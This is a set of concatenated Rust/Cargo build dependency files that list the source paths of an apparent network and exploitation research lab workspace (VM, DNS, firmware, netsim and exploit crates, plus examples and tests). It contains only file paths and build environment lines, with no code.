crates/netsim/src/lib.rs:
crates/netsim/src/addr.rs:
crates/netsim/src/ap.rs:
crates/netsim/src/env.rs:
crates/netsim/src/pineapple.rs:
crates/netsim/src/station.rs:
