/root/repo/target/release/deps/repro-1937e595b6069f26.d: crates/bench/src/bin/repro.rs

/root/repo/target/release/deps/repro-1937e595b6069f26: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
