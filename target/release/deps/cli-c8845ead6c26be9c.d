/root/repo/target/release/deps/cli-c8845ead6c26be9c.d: tests/cli.rs

/root/repo/target/release/deps/cli-c8845ead6c26be9c: tests/cli.rs

tests/cli.rs:

# env-dep:CARGO_BIN_EXE_cml=/root/repo/target/release/cml
