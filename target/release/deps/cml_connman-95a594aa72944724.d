/root/repo/target/release/deps/cml_connman-95a594aa72944724.d: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/release/deps/libcml_connman-95a594aa72944724.rlib: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/release/deps/libcml_connman-95a594aa72944724.rmeta: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

crates/connman/src/lib.rs:
crates/connman/src/cache.rs:
crates/connman/src/daemon.rs:
crates/connman/src/frame.rs:
crates/connman/src/outcome.rs:
crates/connman/src/uncompress.rs:
crates/connman/src/version.rs:
