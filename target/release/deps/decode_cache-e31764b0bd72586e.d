/root/repo/target/release/deps/decode_cache-e31764b0bd72586e.d: crates/vm/tests/decode_cache.rs

/root/repo/target/release/deps/decode_cache-e31764b0bd72586e: crates/vm/tests/decode_cache.rs

crates/vm/tests/decode_cache.rs:
