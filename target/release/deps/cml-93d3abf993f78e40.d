/root/repo/target/release/deps/cml-93d3abf993f78e40.d: src/bin/cml.rs

/root/repo/target/release/deps/cml-93d3abf993f78e40: src/bin/cml.rs

src/bin/cml.rs:
