/root/repo/target/release/deps/cml_image-c376c3917b01586f.d: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/release/deps/cml_image-c376c3917b01586f: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

crates/image/src/lib.rs:
crates/image/src/arch.rs:
crates/image/src/builder.rs:
crates/image/src/image.rs:
crates/image/src/layout.rs:
crates/image/src/perms.rs:
crates/image/src/section.rs:
crates/image/src/symbol.rs:
