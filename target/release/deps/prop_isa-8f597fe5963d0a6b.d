/root/repo/target/release/deps/prop_isa-8f597fe5963d0a6b.d: crates/vm/tests/prop_isa.rs

/root/repo/target/release/deps/prop_isa-8f597fe5963d0a6b: crates/vm/tests/prop_isa.rs

crates/vm/tests/prop_isa.rs:
