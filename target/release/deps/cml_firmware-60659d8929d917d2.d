/root/repo/target/release/deps/cml_firmware-60659d8929d917d2.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/release/deps/libcml_firmware-60659d8929d917d2.rlib: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/release/deps/libcml_firmware-60659d8929d917d2.rmeta: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
