/root/repo/target/release/deps/cml-2debefe2610bb37d.d: src/bin/cml.rs

/root/repo/target/release/deps/cml-2debefe2610bb37d: src/bin/cml.rs

src/bin/cml.rs:
