/root/repo/target/release/deps/cml_image-201511cea3c8ead5.d: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/release/deps/libcml_image-201511cea3c8ead5.rlib: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/release/deps/libcml_image-201511cea3c8ead5.rmeta: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

crates/image/src/lib.rs:
crates/image/src/arch.rs:
crates/image/src/builder.rs:
crates/image/src/image.rs:
crates/image/src/layout.rs:
crates/image/src/perms.rs:
crates/image/src/section.rs:
crates/image/src/symbol.rs:
