/root/repo/target/release/deps/cml_core-c7ac69b26c5ab71f.d: crates/core/src/lib.rs crates/core/src/device.rs crates/core/src/experiments/mod.rs crates/core/src/experiments/e1.rs crates/core/src/experiments/e2.rs crates/core/src/experiments/e3.rs crates/core/src/experiments/e4.rs crates/core/src/experiments/e5.rs crates/core/src/experiments/e6.rs crates/core/src/experiments/e7.rs crates/core/src/experiments/e8.rs crates/core/src/fleet.rs crates/core/src/lab.rs crates/core/src/report.rs crates/core/src/runner.rs

/root/repo/target/release/deps/cml_core-c7ac69b26c5ab71f: crates/core/src/lib.rs crates/core/src/device.rs crates/core/src/experiments/mod.rs crates/core/src/experiments/e1.rs crates/core/src/experiments/e2.rs crates/core/src/experiments/e3.rs crates/core/src/experiments/e4.rs crates/core/src/experiments/e5.rs crates/core/src/experiments/e6.rs crates/core/src/experiments/e7.rs crates/core/src/experiments/e8.rs crates/core/src/fleet.rs crates/core/src/lab.rs crates/core/src/report.rs crates/core/src/runner.rs

crates/core/src/lib.rs:
crates/core/src/device.rs:
crates/core/src/experiments/mod.rs:
crates/core/src/experiments/e1.rs:
crates/core/src/experiments/e2.rs:
crates/core/src/experiments/e3.rs:
crates/core/src/experiments/e4.rs:
crates/core/src/experiments/e5.rs:
crates/core/src/experiments/e6.rs:
crates/core/src/experiments/e7.rs:
crates/core/src/experiments/e8.rs:
crates/core/src/fleet.rs:
crates/core/src/lab.rs:
crates/core/src/report.rs:
crates/core/src/runner.rs:
