/root/repo/target/release/deps/connman_lab-232354234a490774.d: src/lib.rs

/root/repo/target/release/deps/libconnman_lab-232354234a490774.rlib: src/lib.rs

/root/repo/target/release/deps/libconnman_lab-232354234a490774.rmeta: src/lib.rs

src/lib.rs:
