/root/repo/target/release/examples/rop_workbench-a589b31785e83143.d: examples/rop_workbench.rs

/root/repo/target/release/examples/rop_workbench-a589b31785e83143: examples/rop_workbench.rs

examples/rop_workbench.rs:
