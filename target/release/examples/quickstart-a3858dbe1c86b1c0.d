/root/repo/target/release/examples/quickstart-a3858dbe1c86b1c0.d: examples/quickstart.rs

/root/repo/target/release/examples/quickstart-a3858dbe1c86b1c0: examples/quickstart.rs

examples/quickstart.rs:
