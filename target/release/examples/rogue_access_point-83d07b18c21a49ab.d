/root/repo/target/release/examples/rogue_access_point-83d07b18c21a49ab.d: examples/rogue_access_point.rs

/root/repo/target/release/examples/rogue_access_point-83d07b18c21a49ab: examples/rogue_access_point.rs

examples/rogue_access_point.rs:
