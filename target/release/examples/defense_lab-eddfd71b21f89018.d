/root/repo/target/release/examples/defense_lab-eddfd71b21f89018.d: examples/defense_lab.rs

/root/repo/target/release/examples/defense_lab-eddfd71b21f89018: examples/defense_lab.rs

examples/defense_lab.rs:
