/root/repo/target/debug/deps/connman_lab-0e751238d088b483.d: src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libconnman_lab-0e751238d088b483.rmeta: src/lib.rs Cargo.toml

src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
