/root/repo/target/debug/deps/remote_attack-d6f3d9c7d42b8b5d.d: tests/remote_attack.rs Cargo.toml

/root/repo/target/debug/deps/libremote_attack-d6f3d9c7d42b8b5d.rmeta: tests/remote_attack.rs Cargo.toml

tests/remote_attack.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
