/root/repo/target/debug/deps/fleet-5ed83dc3098589af.d: tests/fleet.rs Cargo.toml

/root/repo/target/debug/deps/libfleet-5ed83dc3098589af.rmeta: tests/fleet.rs Cargo.toml

tests/fleet.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
