/root/repo/target/debug/deps/cml_image-30612e3e71805624.d: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs Cargo.toml

/root/repo/target/debug/deps/libcml_image-30612e3e71805624.rmeta: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs Cargo.toml

crates/image/src/lib.rs:
crates/image/src/arch.rs:
crates/image/src/builder.rs:
crates/image/src/image.rs:
crates/image/src/layout.rs:
crates/image/src/perms.rs:
crates/image/src/section.rs:
crates/image/src/symbol.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
