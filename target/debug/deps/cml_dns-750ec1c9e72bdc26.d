/root/repo/target/debug/deps/cml_dns-750ec1c9e72bdc26.d: crates/dns/src/lib.rs crates/dns/src/error.rs crates/dns/src/forge.rs crates/dns/src/header.rs crates/dns/src/message.rs crates/dns/src/name.rs crates/dns/src/question.rs crates/dns/src/record.rs crates/dns/src/validate.rs crates/dns/src/wire.rs crates/dns/src/zone.rs Cargo.toml

/root/repo/target/debug/deps/libcml_dns-750ec1c9e72bdc26.rmeta: crates/dns/src/lib.rs crates/dns/src/error.rs crates/dns/src/forge.rs crates/dns/src/header.rs crates/dns/src/message.rs crates/dns/src/name.rs crates/dns/src/question.rs crates/dns/src/record.rs crates/dns/src/validate.rs crates/dns/src/wire.rs crates/dns/src/zone.rs Cargo.toml

crates/dns/src/lib.rs:
crates/dns/src/error.rs:
crates/dns/src/forge.rs:
crates/dns/src/header.rs:
crates/dns/src/message.rs:
crates/dns/src/name.rs:
crates/dns/src/question.rs:
crates/dns/src/record.rs:
crates/dns/src/validate.rs:
crates/dns/src/wire.rs:
crates/dns/src/zone.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
