/root/repo/target/debug/deps/vm_exec-784043cf3fc87150.d: crates/bench/benches/vm_exec.rs Cargo.toml

/root/repo/target/debug/deps/libvm_exec-784043cf3fc87150.rmeta: crates/bench/benches/vm_exec.rs Cargo.toml

crates/bench/benches/vm_exec.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
