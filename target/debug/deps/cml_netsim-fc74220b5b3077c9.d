/root/repo/target/debug/deps/cml_netsim-fc74220b5b3077c9.d: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/debug/deps/libcml_netsim-fc74220b5b3077c9.rlib: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/debug/deps/libcml_netsim-fc74220b5b3077c9.rmeta: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

crates/netsim/src/lib.rs:
crates/netsim/src/addr.rs:
crates/netsim/src/ap.rs:
crates/netsim/src/env.rs:
crates/netsim/src/pineapple.rs:
crates/netsim/src/station.rs:
