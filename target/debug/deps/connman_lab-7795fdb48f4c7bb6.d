/root/repo/target/debug/deps/connman_lab-7795fdb48f4c7bb6.d: src/lib.rs

/root/repo/target/debug/deps/libconnman_lab-7795fdb48f4c7bb6.rlib: src/lib.rs

/root/repo/target/debug/deps/libconnman_lab-7795fdb48f4c7bb6.rmeta: src/lib.rs

src/lib.rs:
