/root/repo/target/debug/deps/cli-513c521be8dee32c.d: tests/cli.rs Cargo.toml

/root/repo/target/debug/deps/libcli-513c521be8dee32c.rmeta: tests/cli.rs Cargo.toml

tests/cli.rs:
Cargo.toml:

# env-dep:CARGO_BIN_EXE_cml=placeholder:cml
# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
