/root/repo/target/debug/deps/service_adaptation-eeca155618204e6a.d: crates/exploit/tests/service_adaptation.rs

/root/repo/target/debug/deps/service_adaptation-eeca155618204e6a: crates/exploit/tests/service_adaptation.rs

crates/exploit/tests/service_adaptation.rs:
