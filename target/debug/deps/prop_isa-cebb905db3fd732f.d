/root/repo/target/debug/deps/prop_isa-cebb905db3fd732f.d: crates/vm/tests/prop_isa.rs Cargo.toml

/root/repo/target/debug/deps/libprop_isa-cebb905db3fd732f.rmeta: crates/vm/tests/prop_isa.rs Cargo.toml

crates/vm/tests/prop_isa.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
