/root/repo/target/debug/deps/decode_cache-94ae76eacd0f1735.d: crates/vm/tests/decode_cache.rs

/root/repo/target/debug/deps/decode_cache-94ae76eacd0f1735: crates/vm/tests/decode_cache.rs

crates/vm/tests/decode_cache.rs:
