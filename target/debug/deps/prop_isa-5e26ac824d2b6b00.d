/root/repo/target/debug/deps/prop_isa-5e26ac824d2b6b00.d: crates/vm/tests/prop_isa.rs

/root/repo/target/debug/deps/prop_isa-5e26ac824d2b6b00: crates/vm/tests/prop_isa.rs

crates/vm/tests/prop_isa.rs:
