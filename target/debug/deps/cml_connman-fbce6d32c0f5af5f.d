/root/repo/target/debug/deps/cml_connman-fbce6d32c0f5af5f.d: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/debug/deps/cml_connman-fbce6d32c0f5af5f: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

crates/connman/src/lib.rs:
crates/connman/src/cache.rs:
crates/connman/src/daemon.rs:
crates/connman/src/frame.rs:
crates/connman/src/outcome.rs:
crates/connman/src/uncompress.rs:
crates/connman/src/version.rs:
