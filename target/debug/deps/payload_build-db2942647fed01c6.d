/root/repo/target/debug/deps/payload_build-db2942647fed01c6.d: crates/bench/benches/payload_build.rs Cargo.toml

/root/repo/target/debug/deps/libpayload_build-db2942647fed01c6.rmeta: crates/bench/benches/payload_build.rs Cargo.toml

crates/bench/benches/payload_build.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
