/root/repo/target/debug/deps/prop_wire-67a59bce260a2599.d: crates/dns/tests/prop_wire.rs

/root/repo/target/debug/deps/prop_wire-67a59bce260a2599: crates/dns/tests/prop_wire.rs

crates/dns/tests/prop_wire.rs:
