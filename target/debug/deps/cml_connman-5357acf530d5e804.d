/root/repo/target/debug/deps/cml_connman-5357acf530d5e804.d: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/debug/deps/libcml_connman-5357acf530d5e804.rlib: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

/root/repo/target/debug/deps/libcml_connman-5357acf530d5e804.rmeta: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs

crates/connman/src/lib.rs:
crates/connman/src/cache.rs:
crates/connman/src/daemon.rs:
crates/connman/src/frame.rs:
crates/connman/src/outcome.rs:
crates/connman/src/uncompress.rs:
crates/connman/src/version.rs:
