/root/repo/target/debug/deps/cml_vm-4434ccc90daef7aa.d: crates/vm/src/lib.rs crates/vm/src/arm/mod.rs crates/vm/src/arm/asm.rs crates/vm/src/arm/exec.rs crates/vm/src/arm/insn.rs crates/vm/src/dcache.rs crates/vm/src/debug.rs crates/vm/src/fault.rs crates/vm/src/hooks.rs crates/vm/src/loader.rs crates/vm/src/machine.rs crates/vm/src/mem.rs crates/vm/src/regs.rs crates/vm/src/trace.rs crates/vm/src/x86/mod.rs crates/vm/src/x86/asm.rs crates/vm/src/x86/exec.rs crates/vm/src/x86/insn.rs Cargo.toml

/root/repo/target/debug/deps/libcml_vm-4434ccc90daef7aa.rmeta: crates/vm/src/lib.rs crates/vm/src/arm/mod.rs crates/vm/src/arm/asm.rs crates/vm/src/arm/exec.rs crates/vm/src/arm/insn.rs crates/vm/src/dcache.rs crates/vm/src/debug.rs crates/vm/src/fault.rs crates/vm/src/hooks.rs crates/vm/src/loader.rs crates/vm/src/machine.rs crates/vm/src/mem.rs crates/vm/src/regs.rs crates/vm/src/trace.rs crates/vm/src/x86/mod.rs crates/vm/src/x86/asm.rs crates/vm/src/x86/exec.rs crates/vm/src/x86/insn.rs Cargo.toml

crates/vm/src/lib.rs:
crates/vm/src/arm/mod.rs:
crates/vm/src/arm/asm.rs:
crates/vm/src/arm/exec.rs:
crates/vm/src/arm/insn.rs:
crates/vm/src/dcache.rs:
crates/vm/src/debug.rs:
crates/vm/src/fault.rs:
crates/vm/src/hooks.rs:
crates/vm/src/loader.rs:
crates/vm/src/machine.rs:
crates/vm/src/mem.rs:
crates/vm/src/regs.rs:
crates/vm/src/trace.rs:
crates/vm/src/x86/mod.rs:
crates/vm/src/x86/asm.rs:
crates/vm/src/x86/exec.rs:
crates/vm/src/x86/insn.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
