/root/repo/target/debug/deps/cli-9ef6244534227cdc.d: tests/cli.rs

/root/repo/target/debug/deps/cli-9ef6244534227cdc: tests/cli.rs

tests/cli.rs:

# env-dep:CARGO_BIN_EXE_cml=/root/repo/target/debug/cml
