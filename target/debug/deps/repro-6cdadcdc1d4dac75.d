/root/repo/target/debug/deps/repro-6cdadcdc1d4dac75.d: crates/bench/src/bin/repro.rs

/root/repo/target/debug/deps/repro-6cdadcdc1d4dac75: crates/bench/src/bin/repro.rs

crates/bench/src/bin/repro.rs:
