/root/repo/target/debug/deps/connman_lab-8a125458b355588e.d: src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libconnman_lab-8a125458b355588e.rmeta: src/lib.rs Cargo.toml

src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
