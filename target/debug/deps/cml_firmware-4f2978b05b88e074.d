/root/repo/target/debug/deps/cml_firmware-4f2978b05b88e074.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/debug/deps/cml_firmware-4f2978b05b88e074: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
