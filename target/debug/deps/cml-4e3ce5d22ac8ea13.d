/root/repo/target/debug/deps/cml-4e3ce5d22ac8ea13.d: src/bin/cml.rs

/root/repo/target/debug/deps/cml-4e3ce5d22ac8ea13: src/bin/cml.rs

src/bin/cml.rs:
