/root/repo/target/debug/deps/failure_injection-3f647e85670cb04e.d: tests/failure_injection.rs

/root/repo/target/debug/deps/failure_injection-3f647e85670cb04e: tests/failure_injection.rs

tests/failure_injection.rs:
