/root/repo/target/debug/deps/fleet-acbc9487653d1828.d: tests/fleet.rs

/root/repo/target/debug/deps/fleet-acbc9487653d1828: tests/fleet.rs

tests/fleet.rs:
