/root/repo/target/debug/deps/cml_firmware-daca21614d8024ea.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs Cargo.toml

/root/repo/target/debug/deps/libcml_firmware-daca21614d8024ea.rmeta: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs Cargo.toml

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
