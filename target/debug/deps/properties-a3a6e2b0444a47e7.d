/root/repo/target/debug/deps/properties-a3a6e2b0444a47e7.d: tests/properties.rs Cargo.toml

/root/repo/target/debug/deps/libproperties-a3a6e2b0444a47e7.rmeta: tests/properties.rs Cargo.toml

tests/properties.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
