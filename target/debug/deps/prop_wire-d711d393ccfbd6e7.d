/root/repo/target/debug/deps/prop_wire-d711d393ccfbd6e7.d: crates/dns/tests/prop_wire.rs Cargo.toml

/root/repo/target/debug/deps/libprop_wire-d711d393ccfbd6e7.rmeta: crates/dns/tests/prop_wire.rs Cargo.toml

crates/dns/tests/prop_wire.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
