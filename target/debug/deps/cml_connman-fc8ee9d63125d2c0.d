/root/repo/target/debug/deps/cml_connman-fc8ee9d63125d2c0.d: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs Cargo.toml

/root/repo/target/debug/deps/libcml_connman-fc8ee9d63125d2c0.rmeta: crates/connman/src/lib.rs crates/connman/src/cache.rs crates/connman/src/daemon.rs crates/connman/src/frame.rs crates/connman/src/outcome.rs crates/connman/src/uncompress.rs crates/connman/src/version.rs Cargo.toml

crates/connman/src/lib.rs:
crates/connman/src/cache.rs:
crates/connman/src/daemon.rs:
crates/connman/src/frame.rs:
crates/connman/src/outcome.rs:
crates/connman/src/uncompress.rs:
crates/connman/src/version.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
