/root/repo/target/debug/deps/service_adaptation-08e8ff7824fa6aad.d: crates/exploit/tests/service_adaptation.rs Cargo.toml

/root/repo/target/debug/deps/libservice_adaptation-08e8ff7824fa6aad.rmeta: crates/exploit/tests/service_adaptation.rs Cargo.toml

crates/exploit/tests/service_adaptation.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
