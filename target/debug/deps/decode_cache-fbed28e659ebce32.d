/root/repo/target/debug/deps/decode_cache-fbed28e659ebce32.d: crates/vm/tests/decode_cache.rs Cargo.toml

/root/repo/target/debug/deps/libdecode_cache-fbed28e659ebce32.rmeta: crates/vm/tests/decode_cache.rs Cargo.toml

crates/vm/tests/decode_cache.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
