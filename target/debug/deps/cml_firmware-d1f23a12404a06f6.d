/root/repo/target/debug/deps/cml_firmware-d1f23a12404a06f6.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/debug/deps/libcml_firmware-d1f23a12404a06f6.rlib: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

/root/repo/target/debug/deps/libcml_firmware-d1f23a12404a06f6.rmeta: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs

crates/firmware/src/lib.rs:
crates/firmware/src/build.rs:
crates/firmware/src/profile.rs:
