/root/repo/target/debug/deps/cml_netsim-aaa77f1447de5c0c.d: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs Cargo.toml

/root/repo/target/debug/deps/libcml_netsim-aaa77f1447de5c0c.rmeta: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs Cargo.toml

crates/netsim/src/lib.rs:
crates/netsim/src/addr.rs:
crates/netsim/src/ap.rs:
crates/netsim/src/env.rs:
crates/netsim/src/pineapple.rs:
crates/netsim/src/station.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
