/root/repo/target/debug/deps/cml-92ceec23b0c4e13a.d: src/bin/cml.rs

/root/repo/target/debug/deps/cml-92ceec23b0c4e13a: src/bin/cml.rs

src/bin/cml.rs:
