/root/repo/target/debug/deps/cml_image-29adcdc3120d6eb8.d: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

/root/repo/target/debug/deps/cml_image-29adcdc3120d6eb8: crates/image/src/lib.rs crates/image/src/arch.rs crates/image/src/builder.rs crates/image/src/image.rs crates/image/src/layout.rs crates/image/src/perms.rs crates/image/src/section.rs crates/image/src/symbol.rs

crates/image/src/lib.rs:
crates/image/src/arch.rs:
crates/image/src/builder.rs:
crates/image/src/image.rs:
crates/image/src/layout.rs:
crates/image/src/perms.rs:
crates/image/src/section.rs:
crates/image/src/symbol.rs:
