/root/repo/target/debug/deps/cml_core-1099daf65b353713.d: crates/core/src/lib.rs crates/core/src/device.rs crates/core/src/experiments/mod.rs crates/core/src/experiments/e1.rs crates/core/src/experiments/e2.rs crates/core/src/experiments/e3.rs crates/core/src/experiments/e4.rs crates/core/src/experiments/e5.rs crates/core/src/experiments/e6.rs crates/core/src/experiments/e7.rs crates/core/src/experiments/e8.rs crates/core/src/fleet.rs crates/core/src/lab.rs crates/core/src/report.rs crates/core/src/runner.rs Cargo.toml

/root/repo/target/debug/deps/libcml_core-1099daf65b353713.rmeta: crates/core/src/lib.rs crates/core/src/device.rs crates/core/src/experiments/mod.rs crates/core/src/experiments/e1.rs crates/core/src/experiments/e2.rs crates/core/src/experiments/e3.rs crates/core/src/experiments/e4.rs crates/core/src/experiments/e5.rs crates/core/src/experiments/e6.rs crates/core/src/experiments/e7.rs crates/core/src/experiments/e8.rs crates/core/src/fleet.rs crates/core/src/lab.rs crates/core/src/report.rs crates/core/src/runner.rs Cargo.toml

crates/core/src/lib.rs:
crates/core/src/device.rs:
crates/core/src/experiments/mod.rs:
crates/core/src/experiments/e1.rs:
crates/core/src/experiments/e2.rs:
crates/core/src/experiments/e3.rs:
crates/core/src/experiments/e4.rs:
crates/core/src/experiments/e5.rs:
crates/core/src/experiments/e6.rs:
crates/core/src/experiments/e7.rs:
crates/core/src/experiments/e8.rs:
crates/core/src/fleet.rs:
crates/core/src/lab.rs:
crates/core/src/report.rs:
crates/core/src/runner.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=-D__CLIPPY_HACKERY__warnings__CLIPPY_HACKERY__
# env-dep:CLIPPY_CONF_DIR
