/root/repo/target/debug/deps/cml_netsim-e37c3ed39a03afc5.d: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

/root/repo/target/debug/deps/cml_netsim-e37c3ed39a03afc5: crates/netsim/src/lib.rs crates/netsim/src/addr.rs crates/netsim/src/ap.rs crates/netsim/src/env.rs crates/netsim/src/pineapple.rs crates/netsim/src/station.rs

crates/netsim/src/lib.rs:
crates/netsim/src/addr.rs:
crates/netsim/src/ap.rs:
crates/netsim/src/env.rs:
crates/netsim/src/pineapple.rs:
crates/netsim/src/station.rs:
