/root/repo/target/debug/deps/cml_firmware-f8173235769e9a20.d: crates/firmware/src/lib.rs crates/firmware/src/build.rs crates/firmware/src/profile.rs Cargo.toml

